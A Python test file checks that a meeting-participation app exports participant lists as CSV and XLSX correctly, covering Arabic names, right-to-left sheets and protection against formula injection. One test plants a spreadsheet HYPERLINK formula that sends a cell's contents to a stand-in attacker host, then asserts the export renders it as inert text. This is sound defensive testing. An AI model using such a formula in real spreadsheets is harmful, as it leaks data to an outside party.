"""Participant lists as CSV and XLSX: exactly the event's registrations, Arabic names
intact, a right-to-left sheet from the Arabic interface, and no cell taken for a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from gcmreview.participation import operations as ops
from gcmreview.participation.tests.helpers import url

HEADER = ["Name", "E-mail address", "Organization", "Status", "Attended", "Registered at"]


@pytest.fixture
def listed(w, make_person, make_event):
    """The meeting on approval with three registrations, and a registration elsewhere."""
    arabic = make_person("ليلى", last_name="حداد", email="leila@example.org", organization=w.egypt)
    pending = make_person("Pending person")
    ops.register_participant(arabic, w.open_event, w.process)
    ops.register_participant(pending, w.open_event, w.process)
    ops.decide_registration(w.people["secretariat"], arabic.registrations.get(), approve=True)
    ops.register_participant(make_person("Elsewhere"), make_event("other-meeting"), w.process)
    return {"stakeholder@example.org", "leila@example.org", "pending.person@example.org"}


def export(client, w, fmt, lang="en"):
    client.force_login(w.people["secretariat"])
    return client.get(url("participants-export", w.process.slug, w.open_event.key, fmt, lang=lang))


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def sheet_of(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_the_csv_starts_with_a_byte_order_mark_and_a_header_row(client, w, listed):
    response = export(client, w, "csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{w.open_event.key}-participants.csv"'
    )
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert csv_rows(response)[0] == HEADER


def test_the_csv_lists_exactly_the_events_registrations(client, w, listed):
    rows = csv_rows(export(client, w, "csv"))[1:]
    assert {row[1] for row in rows} == listed
    assert len(rows) == len(listed)


def test_an_arabic_name_comes_back_intact_from_the_csv(client, w, listed):
    rows = {row[1]: row for row in csv_rows(export(client, w, "csv"))[1:]}
    leila = rows["leila@example.org"]
    assert leila[0] == "ليلى حداد"
    assert leila[2] == "Egypt"
    assert leila[3] == "confirmed"


def test_the_xlsx_lists_exactly_the_events_registrations_under_a_title_and_header(
    client, w, listed
):
    response = export(client, w, "xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    rows = [[cell.value for cell in row] for row in sheet_of(response).iter_rows()]
    assert rows[0][0] == w.open_event.title
    assert rows[1] == HEADER
    assert {row[1] for row in rows[2:]} == listed
    assert len(rows[2:]) == len(listed)
    assert ["ليلى حداد", "leila@example.org"] in [row[:2] for row in rows[2:]]


def test_the_xlsx_reads_left_to_right_from_the_english_interface(client, w, listed):
    assert not sheet_of(export(client, w, "xlsx")).sheet_view.rightToLeft


def test_the_xlsx_reads_right_to_left_from_the_arabic_interface(client, w, listed):
    response = export(client, w, "xlsx", lang="ar")
    assert response.status_code == 200
    assert sheet_of(response).sheet_view.rightToLeft


def test_a_name_that_looks_like_a_formula_stays_text(client, w, make_person):
    trap = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    ops.register_participant(make_person(trap, email="trap@example.org"), w.open_event, w.process)
    rows = {row[1]: row for row in csv_rows(export(client, w, "csv"))[1:]}
    # Spreadsheet programs read a leading quote as "this is text".
    assert rows["trap@example.org"][0] == "'" + trap
    sheet = sheet_of(export(client, w, "xlsx"))
    [cell] = [row[0] for row in sheet.iter_rows(min_row=3) if row[1].value == "trap@example.org"]
    assert cell.data_type == "s"
    assert cell.value == trap


def test_an_unknown_export_format_is_not_found(client, w, listed):
    assert export(client, w, "pdf").status_code == 404
